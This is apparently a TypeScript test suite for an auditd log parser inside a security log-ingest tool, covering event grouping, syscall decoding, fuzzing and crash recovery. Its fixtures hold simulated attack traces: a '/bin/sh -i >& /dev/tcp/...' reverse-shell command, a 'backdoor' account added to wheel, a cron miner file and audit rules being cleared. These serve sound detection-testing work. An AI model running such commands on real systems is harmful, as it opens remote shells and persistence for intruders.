/**
 * auditd: golden files, the grouping of records into events (and its crash-safety through the real ingest), the
 * decoding rules, and hostile input.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { checkGolden, readLines } from '../helpers/golden.js';
import { FIXTURES, run, start, tmpDir } from '../helpers/cli.js';
import { query } from '../helpers/store.js';
import { auditd } from '../../src/parsers/auditd.js';
import { parseLines } from '../../src/parsers/run.js';
import type { ParsedEvent } from '../../src/model/event.js';

const DIR = path.join(FIXTURES, 'auditd');
const ctx = { path: '-', tz: 'UTC', mtimeMs: Date.UTC(2024, 0, 1) };

for (const f of fs.readdirSync(DIR).filter((n) => n.endsWith('.log')).sort()) {
  test(`golden: auditd/${f}`, () => {
    checkGolden(path.join(DIR, f), { expectParser: 'auditd' });
  });
}

type Doc = Record<string, any>;

function docs(file: string): Doc[] {
  return parseLines(readLines(path.join(DIR, file))).events.map((e) => e.doc);
}

test('an execve group: one event with decoded arguments, title, the program as file.path, every key under auditd', () => {
  const [x, curl, connect, connect6, failed] = docs('hand-process.log');
  assert.equal(x.event.action, 'execve');
  assert.deepEqual(x.event.category, ['process']);
  assert.deepEqual(x.process.args, ['/tmp/x', '-c', '/bin/sh -i >& /dev/tcp/198.51.100.7/4443 0>&1']);
  assert.equal(x.process.title, '/tmp/x -c /bin/sh -i >& /dev/tcp/198.51.100.7/4443 0>&1');
  assert.equal(x.process.working_directory, '/var/www/html/uploads');
  assert.equal(x.file.path, '/tmp/x');
  assert.equal(x.user.id, '33');
  assert.deepEqual(x.auditd.type, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE', 'EOE']);
  assert.equal(x.auditd.record_count, 7);
  assert.equal(x.auditd.sequence, 9001);
  assert.equal(x.auditd.syscall_name, 'execve');
  assert.equal(x.event.original.split('\n').length, 7);

  // the brief's example: a0.. are the EXECVE arguments (the SYSCALL's register a0-a3 are left out)
  assert.equal(curl.auditd.a0, 'curl');
  assert.equal(curl.auditd.a1, '-s');
  assert.equal(curl.auditd.key, 'exec');
  assert.equal(curl.auditd.exe, '/usr/bin/curl');
  assert.deepEqual(curl.auditd.name, ['/usr/bin/curl', '/lib64/ld-linux-x86-64.so.2']);
  assert.deepEqual(curl.auditd.nametype, ['NORMAL', 'NORMAL']);

  assert.equal(connect.event.action, 'syscall');
  assert.equal(connect.auditd.syscall_name, 'connect');
  assert.equal(connect.auditd.a0, '5', 'without an EXECVE record the SYSCALL arguments keep their names');
  assert.deepEqual([connect.destination.ip, connect.destination.port], ['203.0.113.50', 80]);
  assert.equal(connect.event.outcome, 'failure');
  assert.deepEqual([connect6.destination.ip, connect6.destination.port], ['2001:db8::10', 443]);
  assert.equal(connect6.event.outcome, 'success');

  assert.equal(failed.event.action, 'syscall');
  assert.equal(failed.event.outcome, 'failure');
  assert.equal(failed.file.path, '/usr/local/bin/nc');
});

test('file events: writes by open flags, relative names against the cwd, the first non-parent PATH item', () => {
  const [shadow, notes, rename, chmod] = docs('hand-file.log');
  assert.equal(shadow.file.path, '/etc/shadow');
  assert.deepEqual([shadow.event.category, shadow.event.type], [['file'], ['change']]);
  assert.equal(shadow.auditd.key, 'identity');
  assert.equal(shadow.auditd.syscall_name, 'openat');
  assert.equal(notes.file.path, '/home/alice/notes.txt');
  assert.deepEqual(notes.event.type, ['access']);
  assert.equal(rename.file.path, '/tmp/x');
  assert.deepEqual(rename.auditd.nametype, ['PARENT', 'PARENT', 'DELETE', 'CREATE']);
  assert.equal(chmod.auditd.syscall_name, 'fchmodat');
  assert.equal(chmod.process.title, 'chmod 4755 /usr/local/bin/dbus-helper');
});

test('opens: flags decoded into auditd.open_flags; only write, create or truncate flags make a change', () => {
  const [read, trunc, openat2, armUnlink, armRename] = docs('hand-open.log');
  // cat /etc/sudoers under an rwxa watch: O_RDONLY|O_CLOEXEC is a read
  assert.deepEqual([read.auditd.open_flags, read.event.type], [['O_RDONLY'], ['access']]);
  // O_TRUNC empties the file even when opened read-only
  assert.deepEqual([trunc.auditd.syscall_name, trunc.auditd.open_flags, trunc.event.type], ['open', ['O_RDONLY', 'O_TRUNC'], ['change']]);
  // openat2 passes a struct: the flags come from the OPENAT2 record, in octal
  assert.deepEqual([openat2.auditd.syscall_name, openat2.auditd.open_flags, openat2.event.type], ['openat2', ['O_WRONLY', 'O_CREAT'], ['change']]);
  // 32-bit arm (EABI) numbers: unlinkat is 328, renameat 329 (301 and 302 on i386)
  assert.deepEqual([armUnlink.auditd.syscall_name, armRename.auditd.syscall_name], ['unlinkat', 'renameat']);
  assert.deepEqual([armUnlink.event.category, armUnlink.event.type], [['file'], ['deletion']]);
  assert.deepEqual([armRename.event.category, armRename.event.type], [['file'], ['change']]);
});

test('relative names: joined to the cwd with . and .. resolved, every item in auditd.paths; not after a directory fd', () => {
  const [sudoers, shadow, rename, unlinkat] = docs('hand-relative.log');
  assert.equal(sudoers.auditd.name[1], 'sudoers', 'the raw name stays as written');
  assert.equal(sudoers.file.path, '/etc/sudoers');
  assert.deepEqual(sudoers.auditd.paths, ['/etc', '/etc/sudoers']);
  assert.equal(shadow.file.path, '/etc/shadow');
  assert.deepEqual(shadow.auditd.paths, ['/etc', '/etc/shadow']);
  // rename's target is a later item than its source: only auditd.paths carries it
  assert.equal(rename.file.path, '/tmp/job');
  assert.deepEqual(rename.auditd.paths, ['/tmp', '/etc/cron.d', '/tmp/job', '/etc/cron.d/job']);
  // unlinkat(4, "sudoers"): relative to descriptor 4, not to the cwd /etc
  assert.equal(unlinkat.file.path, 'sudoers');
  assert.deepEqual(unlinkat.auditd.paths, ['/etc', 'sudoers']);
});

test('syscall names the SigmaHQ rules watch: personality, syslog and sysinfo on every architecture', () => {
  // ASLR disabled (personality), kernel ring buffer cleared (syslog), system discovery (sysinfo): raw audit.log
  // writes only the number
  const cases: [arch: string, no: string, name: string][] = [
    ['c000003e', '135', 'personality'], ['c000003e', '103', 'syslog'], ['c000003e', '99', 'sysinfo'],
    ['40000003', '136', 'personality'], ['40000003', '103', 'syslog'], ['40000003', '116', 'sysinfo'],
    ['c00000b7', '92', 'personality'], ['c00000b7', '116', 'syslog'], ['c00000b7', '179', 'sysinfo'],
    ['40000028', '136', 'personality'], ['40000028', '103', 'syslog'], ['40000028', '116', 'sysinfo'],
  ];
  const lines = cases.map(([arch, no], i) => `type=SYSCALL msg=audit(1709805601.000:${500 + i}): arch=${arch} syscall=${no} success=yes exit=0 a0=40000 a1=0 a2=0 a3=0 items=0 ppid=1 pid=${900 + i} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="/usr/bin/x" key=(null)`);
  const got = parseLines(lines).events.map((e) => (e.doc.auditd as Doc).syscall_name);
  assert.deepEqual(got, cases.map(([, , name]) => name));
});

test('syscall names per architecture: aarch64, i386 and arm numbers name execve, an x86_64 number on aarch64 does not', () => {
  const [arm, i386, armAt, i386At, pipe2, openat, arm32, arm32Open] = docs('hand-arch.log');
  assert.deepEqual([arm.host.architecture, arm.auditd.syscall, arm.auditd.syscall_name], ['aarch64', '221', 'execve']);
  assert.deepEqual([i386.host.architecture, i386.auditd.syscall, i386.auditd.syscall_name], ['i386', '11', 'execve']);
  assert.deepEqual([armAt.auditd.syscall, armAt.auditd.syscall_name], ['281', 'execveat']);
  assert.deepEqual([i386At.auditd.syscall, i386At.auditd.syscall_name], ['358', 'execveat']);
  assert.deepEqual(arm.event.type, ['start']);
  // 59 is execve on x86_64 but pipe2 on aarch64
  assert.equal(pipe2.auditd.syscall, '59');
  assert.notEqual(pipe2.auditd.syscall_name, 'execve');
  assert.deepEqual([openat.auditd.syscall_name, openat.event.category, openat.event.type], ['openat', ['file'], ['creation']]);
  // 32-bit arm (EABI) numbers execve 11 as i386 does, but openat 322 (295 on i386); AT_FDCWD is 32 bits wide there
  assert.deepEqual([arm32.host.architecture, arm32.auditd.syscall_name, arm32.event.type], ['arm', 'execve', ['start']]);
  assert.deepEqual([arm32Open.auditd.syscall_name, arm32Open.file.path, arm32Open.event.type], ['openat', '/etc/cron.d/miner', ['creation']]);
});

test('user-space records: the msg= pairs, accounts, remote addresses, configuration changes', () => {
  const d = docs('hand-iam.log');
  const byAction = (a: string) => d.filter((e) => e.event.action === a);
  const [addUser] = byAction('add_user');
  assert.deepEqual([addUser.event.category, addUser.event.type], [['iam'], ['user', 'creation']]);
  assert.equal(addUser.user.target.id, '1001');
  assert.equal(addUser.source?.domain, undefined, 'a local tool names its own host, not a remote one');
  const [toWheel] = byAction('user_mgmt').filter((e) => e.group?.name === 'wheel');
  assert.equal(toWheel.user.target.name, 'backdoor');
  assert.equal(byAction('add_group')[0].group.name, 'backdoor');
  const [auth] = byAction('user_auth');
  assert.deepEqual([auth.event.outcome, auth.source.ip, auth.user.name], ['failure', '198.51.100.23', 'admin']);
  const logins = byAction('user_login');
  assert.deepEqual(logins.map((e) => [e.event.outcome, e.source.ip, e.user?.name]), [
    ['failure', '198.51.100.23', 'admin'],
    ['failure', '2001:db8:4::23', undefined],
    ['success', '192.0.2.10', undefined],
  ]);
  assert.equal(logins[1].auditd.acct, '(invalid user)', 'hex-encoded acct is decoded');
  assert.equal(logins[2].source.domain, 'bastion.example.net');
  const changes = byAction('config_change');
  assert.equal(changes.length, 2);
  assert.equal(changes[0].process.name, 'auditctl');
  assert.equal(changes[0].process.title, 'auditctl -D');
  assert.deepEqual(changes[0].auditd.key, ['identity', '(null)']);
  assert.equal(changes[1].auditd.audit_enabled, '0');
  const [login] = byAction('login');
  assert.deepEqual([login.auditd.old_auid, login.auditd.new_auid, login.auditd.new_ses], ['4294967295', '1000', '9']);
});

test('syslog, node= and kernel ring buffer prefixes; AVC and AppArmor verdicts; the enriched format', () => {
  const [cmd, su, whoami, apparmor, seccomp, service, avc, enriched] = docs('hand-prefixed.log');
  assert.equal(cmd.host.name, 'web01');
  assert.equal(cmd.process.command_line, 'cat /etc/shadow');
  assert.equal(su.host.name, 'web02');
  assert.equal(su['@timestamp'], '2023-11-14T03:12:01.330Z');
  assert.equal(whoami.host.name, 'web02', 'the syslog host when there is no node=');
  assert.equal(whoami.event.action, 'execve');
  assert.equal(whoami.event.original.split('\n').length, 2, 'prefixed lines group by serial too');
  assert.deepEqual([apparmor.event.action, apparmor.event.outcome, apparmor.file.path], ['avc', 'failure', '/etc/shadow']);
  assert.equal(seccomp.event.action, 'seccomp');
  assert.equal(seccomp.auditd.syscall_name, undefined, 'syscall 273 is not in the table: no guess');
  assert.equal(service.event.action, 'service_start');
  assert.deepEqual([avc.event.action, avc.event.outcome, avc.event.type, avc.auditd.seperms], ['avc', 'failure', ['denied'], 'read,write']);
  assert.equal(avc.process.executable, '/usr/sbin/httpd');
  assert.equal(enriched.user.name, 'root', 'UID= of the enriched format names the user');
  assert.equal(enriched.auditd.SYSCALL, 'execve');
  assert.equal(enriched.auditd.AUID, 'alice');
  assert.deepEqual(enriched.auditd.OUID, 'root');
});

test('ausearch output: separators join the records after them; records in reverse order still make one event', () => {
  const [sudo, cmd] = docs('hand-ausearch.log');
  assert.equal(sudo.event.action, 'execve');
  assert.equal(sudo.file.path, '/usr/bin/sudo');
  assert.deepEqual(sudo.process.args, ['sudo', '-i']);
  assert.equal(sudo.event.original.split('\n').length, 8);
  assert.equal(cmd.event.action, 'user_cmd');
  assert.equal(cmd.process.command_line, '-bash');
});

test('long EXECVE arguments split into aN[i] chunks are joined; several rule keys become a list', () => {
  const hex = (s: string) => Buffer.from(s).toString('hex').toUpperCase();
  const arg = `echo ${'A'.repeat(40)} "quoted"`;
  const lines = [
    `type=EXECVE msg=audit(1700000000.000:1): argc=2 a0="bash" a1_len=${arg.length} a1[0]=${hex(arg.slice(0, 20))} a1[1]=${hex(arg.slice(20))}`,
    `type=SYSCALL msg=audit(1700000000.000:2): arch=c000003e syscall=59 success=yes exit=0 key=${hex('exec\x01suspicious')}`,
  ];
  const [exec, sys] = parseLines(lines, { format: 'auditd' }).events.map((e) => e.doc as Doc);
  assert.deepEqual(exec.process.args, ['bash', arg]);
  assert.equal(exec.auditd.a1_len, String(arg.length));
  assert.deepEqual(sys.auditd.key, ['exec', 'suspicious']);
});

test('interpreted, malformed and foreign lines are rejected with a reason; log-chosen key names are data', () => {
  const p = auditd.create(ctx);
  const at = { line: 1, offset: 0 };
  assert.match(p.parse('type=SYSCALL msg=audit(11/14/2023 03:12:01.123:456) : arch=x86_64 syscall=execve', at) as string, /ausearch -i/);
  assert.match(p.parse('type=SYSCALL msg=audit(1700000000.x:1): arch=c000003e', at) as string, /malformed audit stamp/);
  assert.match(p.parse(`type=SYSCALL msg=audit(${'9'.repeat(20)}.000:1): arch=c000003e`, at) as string, /malformed audit stamp/);
  assert.match(p.parse('Nov 14 03:12:01 host sshd[1]: Accepted password for bob', at) as string, /not an audit record/);
  assert.match(p.parse('', at) as string, /not an audit record/);
  const res = p.parse('type=USER_CMD msg=audit(1700000000.000:7): __proto__=x constructor=y toString=z', at);
  assert.equal(res, null);
  const [ev] = p.flush();
  const obj = ev.fields.auditd as Record<string, unknown>;
  assert.equal(Object.getPrototypeOf(obj), Object.prototype);
  assert.equal(obj.constructor, 'y');
  assert.equal(obj.toString, 'z');
  assert.equal(Object.hasOwn(obj, '__proto__'), false);
});

/** An independent account of the groups: runs of one (node, serial); EOE and stamp-less lines end them. */
function oracle(lines: string[]): { start: number; end: number }[] {
  const re = /(?:^|\s)(?:node=(\S+) )?type=(\S+) (?:msg=)?audit\(\d+\.\d+:(\d+)\)/;
  const groups: { start: number; end: number }[] = [];
  let open: { start: number; end: number; key: string } | undefined;
  lines.forEach((line, i) => {
    const m = re.exec(line);
    const key = m ? `${m[1] ?? ''}|${m[3]}` : undefined;
    if (open && key === open.key) open.end = i;
    else {
      if (open) groups.push(open);
      open = key ? { start: i, end: i, key } : undefined;
      if (!key) groups.push({ start: i, end: i });
    }
    if (open && m?.[2] === 'EOE') {
      groups.push(open);
      open = undefined;
    }
  });
  if (open) groups.push(open);
  return groups.map(({ start, end }) => ({ start, end }));
}

test('fed line by line, held() is always the open group\'s first line and every line lands in exactly one span', () => {
  const lines = ['beats-rhel7-excerpt.log', 'hand-process.log', 'hand-file.log', 'hand-iam.log', 'hand-prefixed.log'].flatMap((f) => readLines(path.join(DIR, f)));
  const groups = oracle(lines);
  const groupOf = new Map<number, { start: number; end: number }>();
  for (const g of groups) for (let i = g.start; i <= g.end; i++) groupOf.set(i, g);
  const p = auditd.create(ctx);
  const events: ParsedEvent[] = [];
  let offset = 0;
  lines.forEach((line, i) => {
    const res = p.parse(line, { line: i + 1, offset });
    offset += Buffer.byteLength(line) + 1;
    assert.notEqual(typeof res, 'string', `line ${i + 1} taken`);
    if (res && typeof res === 'object') events.push(...(Array.isArray(res) ? res : [res]));
    const g = groupOf.get(i)!;
    // the group stays open after its last line until the next line shows it is over (unless EOE closed it)
    const closedByItself = g.end === i && (/type=EOE /.test(line) || !/audit\(\d/.test(line));
    assert.equal(p.held!()?.line, closedByItself ? undefined : g.start + 1, `held() after line ${i + 1}`);
  });
  events.push(...p.flush());
  assert.equal(p.held!(), undefined);
  assert.equal(events.length, groups.length);
  let next = 1;
  events.forEach((ev, k) => {
    assert.ok(ev.span, 'every auditd event carries its span');
    assert.equal(ev.span.at.line, next, `event ${k + 1} starts where the previous one ended`);
    assert.equal(ev.span.lines, groups[k].end - groups[k].start + 1);
    assert.equal(ev.span.raw, lines.slice(groups[k].start, groups[k].end + 1).join('\n'));
    next += ev.span.lines;
  });
  assert.equal(next - 1, lines.length);
});

test('random bytes and mutated records never throw; every line is rejected or lands in one span', () => {
  let seed = 7;
  const rand = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) % n);
  const real = ['hand-process.log', 'hand-iam.log', 'hand-prefixed.log', 'beats-rhel6.log'].flatMap((f) => readLines(path.join(DIR, f)));
  const alphabet = ' =\'"()[]{}:.\x1dabcAF09-/\\\x00\x01é';
  const lines: string[] = [];
  for (let i = 0; i < 3000; i++) {
    const base = real[rand(real.length)];
    const kind = rand(4);
    if (kind === 0) lines.push(Array.from({ length: rand(120) }, () => alphabet[rand(alphabet.length)]).join(''));
    else if (kind === 1) lines.push(base.slice(0, rand(base.length + 1)));
    else if (kind === 2) {
      const at = rand(base.length + 1);
      lines.push(base.slice(0, at) + alphabet[rand(alphabet.length)] + base.slice(at + rand(3)));
    } else lines.push(base);
  }
  const p = auditd.create(ctx);
  let rejected = 0;
  let spanned = 0;
  const count = (r: ParsedEvent | ParsedEvent[]) => {
    for (const ev of Array.isArray(r) ? r : [r]) spanned += ev.span!.lines;
  };
  lines.forEach((line, i) => {
    const res = p.parse(line, { line: i + 1, offset: 0 });
    if (typeof res === 'string') rejected++;
    else if (res) count(res);
  });
  count(p.flush());
  assert.equal(rejected + spanned, lines.length);
  assert.ok(rejected > 0 && spanned > 0);
});

// ---- through the real ingest ------------------------------------------------------------------------------------

function storedEvents(db: string) {
  return query<Record<string, unknown>>(
    db,
    'SELECT ts, dataset, line, offset, status, flags, raw, event_action, event_outcome, source_ip, user_name, process_pid, extra FROM events ORDER BY line',
  );
}

function ingestOk(db: string, file: string) {
  const res = run(['--db', db, 'ingest', file]);
  assert.equal(res.code, 0, res.stderr);
}

const INGEST_LINES = ['hand-process.log', 'hand-file.log', 'hand-iam.log', 'beats-rhel7-excerpt.log'].flatMap((f) => readLines(path.join(DIR, f)));

function twoHalves(cut: number) {
  const dir = tmpDir();
  const whole = path.join(dir, 'whole', 'audit.log');
  const grown = path.join(dir, 'grown', 'audit.log');
  fs.mkdirSync(path.dirname(whole));
  fs.mkdirSync(path.dirname(grown));
  fs.writeFileSync(whole, INGEST_LINES.join('\n') + '\n');
  ingestOk(path.join(dir, 'whole.db'), whole);
  fs.writeFileSync(grown, INGEST_LINES.slice(0, cut).join('\n') + '\n');
  ingestOk(path.join(dir, 'grown.db'), grown);
  fs.appendFileSync(grown, INGEST_LINES.slice(cut).join('\n') + '\n');
  ingestOk(path.join(dir, 'grown.db'), grown);
  return { whole: storedEvents(path.join(dir, 'whole.db')), grown: storedEvents(path.join(dir, 'grown.db')) };
}

test('ingest: a file ingested in two halves (cut between events) stores the same events as one pass', () => {
  // after hand-process.log's second event (closed by EOE), and after hand-iam.log's first CONFIG_CHANGE set
  // (CONFIG_CHANGE, SYSCALL, PROCTITLE: still open when the first half ends)
  for (const cut of [14, 27 + 21 + 14]) {
    const { whole, grown } = twoHalves(cut);
    assert.equal(whole.length, oracle(INGEST_LINES).length);
    assert.deepEqual(grown, whole, `cut after line ${cut}`);
  }
});

test('ingest: a file cut inside an event and appended later stores the same events as one pass', () => {
  const { whole, grown } = twoHalves(3);
  assert.deepEqual(grown, whole);
});

test('ingest: kill -9 at several moments, then a re-run: every line in exactly one event, groups intact', async () => {
  const dir = tmpDir();
  const log = path.join(dir, 'audit.log');
  fs.writeFileSync(log, (INGEST_LINES.join('\n') + '\n').repeat(150));
  const ref = path.join(dir, 'ref.db');
  const t0 = performance.now();
  ingestOk(ref, log);
  const oneRun = performance.now() - t0;
  const want = query<{ line: number; raw: string }>(ref, 'SELECT line, raw FROM events ORDER BY line');
  const db = path.join(dir, 'store.db');
  const stored: number[] = [];
  for (const share of [0.5, 0.7, 0.9]) {
    await new Promise<void>((resolve) => {
      const child = start(['--db', db, 'ingest', '--batch-rows', '500', log]);
      const timer = setTimeout(() => child.kill('SIGKILL'), oneRun * share);
      child.on('exit', () => {
        clearTimeout(timer);
        resolve();
      });
    });
    stored.push(fs.existsSync(db) ? query<{ n: number }>(db, 'SELECT count(*) AS n FROM events')[0].n : 0);
  }
  assert.ok(stored[0] < want.length, `the first kill interrupted the ingest (${stored.join(', ')} of ${want.length} events)`);
  ingestOk(db, log);
  const got = query<{ line: number; raw: string }>(db, 'SELECT line, raw FROM events ORDER BY line');
  assert.deepEqual(got, want);
  assert.equal(got.reduce((n, r) => n + r.raw.split('\n').length, 0), INGEST_LINES.length * 150);
});
